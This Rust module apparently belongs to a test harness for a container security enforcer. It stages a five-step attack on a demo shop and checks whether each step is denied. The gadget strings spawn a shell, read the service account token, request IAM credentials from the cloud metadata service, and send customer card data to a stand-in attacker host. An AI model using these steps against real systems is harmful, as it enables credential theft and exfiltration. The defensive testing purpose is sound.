//! The attack, step by step, and what came of each step.
//!
//! | step | how | has succeeded when the attacker has |
//! |---|---|---|
//! | a shell is spawned | `Runtime.exec` | the output of the program that the shell ran |
//! | the service account token is scraped | `File.read` | the token |
//! | a privileged pod is created | an AdmissionReview, see [`super::admission`] | the webhook's *allowed* |
//! | the cloud's metadata service is reached | `Socket.send` | credentials |
//! | data is sent out | `Socket.send` | the data, on his own server |

use portcullis_api::event::{Event, Object, Operation, Remedy};

use super::{
    Failure, Phase,
    scene::{ATTACKER, CREDENTIALS, METADATA, Scene, THANKS, TOKEN, TOKEN_FOLDER},
    table::{Cell, Of},
};
use crate::{Error, process::Output};

/// What came of an attempt, as the one who attempts it sees it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Attempt {
    /// He has what he came for.
    Succeeded,
    /// He was denied.
    Denied(Denial),
    /// Anything else, which is never as it should be.
    Unclear(String),
}

/// How a gate denies.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Denial {
    /// The kernel, by the error number.
    Eperm,
    /// The webhook, by the HTTP status that the client gets.
    Forbidden,
}

/// A step of the attack.
pub(super) enum Step {
    /// Inside the web process.
    Runtime(RuntimeStep),
    /// At the API server.
    Admission,
}

pub(super) struct RuntimeStep {
    of: Of,
    operation: Operation,
    /// How the object's text begins, as [`name`] has it.
    object: &'static str,
    /// The object that the shop is made to make.
    gadget: fn() -> String,
    /// What the answer holds where the step has succeeded.
    proof: &'static str,
    /// The server that is told something where the step has succeeded.
    server: Option<&'static str>,
}

const fn runtime(step: &'static str, gate: &'static str) -> Of {
    Of { step, gate, denial: Some(Denial::Eperm) }
}

/// The attack, in its order.
pub(super) const STEPS: [Step; 5] = [
    Step::Runtime(RuntimeStep {
        of: runtime("a shell is spawned", "exec"),
        operation: Operation::Exec,
        object: "/bin/sh",
        gadget: || "Runtime.exec\n/bin/sh\n-c\n/bin/id\n".to_owned(),
        proof: "uid=0",
        server: None,
    }),
    Step::Runtime(RuntimeStep {
        of: runtime("the service account token is scraped", "guarded read"),
        operation: Operation::Open,
        object: TOKEN_FOLDER,
        gadget: || format!("File.read\n{TOKEN_FOLDER}/token\n"),
        proof: TOKEN,
        server: None,
    }),
    Step::Admission,
    Step::Runtime(RuntimeStep {
        of: runtime("the cloud's metadata service is reached", "connect"),
        operation: Operation::Connect,
        object: METADATA,
        gadget: || format!("Socket.send\n{METADATA}\nGET /latest/meta-data/iam/security-credentials/node HTTP/1.0\n"),
        proof: CREDENTIALS,
        server: Some("metadata"),
    }),
    Step::Runtime(RuntimeStep {
        of: runtime("data is sent out", "connect"),
        operation: Operation::Connect,
        object: ATTACKER,
        gadget: || format!("Socket.send\n{ATTACKER}\nthe customers and their cards\n"),
        proof: THANKS,
        server: Some("attacker"),
    }),
];

impl RuntimeStep {
    /// Attempts it and waits for its report.
    pub(super) fn take(&self, scene: &mut Scene<'_>, phase: Phase) -> Result<Cell, Failure> {
        let told = |scene: &mut Scene<'_>| self.server.map(|server| scene.told(server)).transpose();
        let before = told(scene)?;
        let output = scene.send(&(self.gadget)())?;
        let arrived = before != told(scene)?;
        let attempt = judge(&output, self.proof, self.server.map(|_| arrived));
        let event = scene.enforcer.wait_for_event(self.of.step, |event| event.action == phase.action() && self.is_told_by(event));
        let (event, missing) = match event {
            Ok(event) => (Some(event), None),
            Err(Error::Guest { message, .. }) => (None, Some(message)),
            Err(error) => return Err(error.into()),
        };
        let answer = output.text().lines().next().map(|line| format!("the attacker's answer: {line}"));
        let report = event.as_ref().map(|event| {
            let (operation, process) = (format!("{:?}", event.operation).to_lowercase(), &event.process);
            format!("the enforcer's event: {operation} {} by {} (pid {})", name(event), process.executable, process.pid)
        });
        let remark: Vec<String> = answer.into_iter().chain(report).chain(missing).collect();
        Ok(Cell {
            of: self.of,
            attempt,
            reported: event.as_ref().map(|event| event.action),
            allowed_by: event.map(|event| match event.remedy {
                Remedy::Rule(rule) => rule.to_string(),
                Remedy::None(reason) => reason,
            }),
            remark: Some(remark.join("\n")),
        })
    }

    /// Whether the event is about this step.
    pub(super) fn is_told_by(&self, event: &Event) -> bool {
        event.operation == self.operation && name(event).starts_with(self.object)
    }
}

/// An event's object, as the steps write it.
pub(super) fn name(event: &Event) -> String {
    match &event.object {
        Object::File { path, .. } => path.clone(),
        Object::Endpoint { address, port, .. } => format!("{address}:{port}"),
        Object::Token(token) => token.to_string(),
    }
}

/// From the shop's answer, and from whether something arrived where it was sent (`None`: nothing was sent anywhere).
fn judge(output: &Output, proof: &str, arrived: Option<bool>) -> Attempt {
    let text = output.text();
    match (output.code(), arrived) {
        (Some(0), None | Some(true)) if text.contains(proof) => Attempt::Succeeded,
        (Some(1), None | Some(false)) if text.starts_with("errno 1:") => Attempt::Denied(Denial::Eperm),
        (_, Some(true)) => Attempt::Unclear(format!("it arrived, but: {output}")),
        _ => Attempt::Unclear(output.to_string()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::process::Status;

    fn answer(code: i32, text: &str) -> Output {
        Output { status: Some(Status::Code(code)), stdout: text.as_bytes().to_vec(), stderr: Vec::new() }
    }

    #[test]
    fn a_step_has_succeeded_only_with_the_proof() {
        assert_eq!(judge(&answer(0, "uid=0(root)\n"), "uid=0", None), Attempt::Succeeded);
        assert!(matches!(judge(&answer(0, ""), "uid=0", None), Attempt::Unclear(_)));
        assert!(matches!(judge(&answer(0, "thank you"), "thank you", Some(false)), Attempt::Unclear(_)));
    }

    #[test]
    fn a_step_was_denied_only_by_eperm_and_where_nothing_arrived() {
        let denied = answer(1, "errno 1: Operation not permitted (os error 1)\n");
        assert_eq!(judge(&denied, "x", None), Attempt::Denied(Denial::Eperm));
        assert_eq!(judge(&denied, "x", Some(false)), Attempt::Denied(Denial::Eperm));
        assert!(matches!(judge(&denied, "x", Some(true)), Attempt::Unclear(_)));
        for other in ["errno 13: Permission denied (os error 13)", "errno 111: Connection refused", "errno 0: timed out"] {
            assert!(matches!(judge(&answer(1, other), "x", None), Attempt::Unclear(_)), "{other}");
        }
    }
}
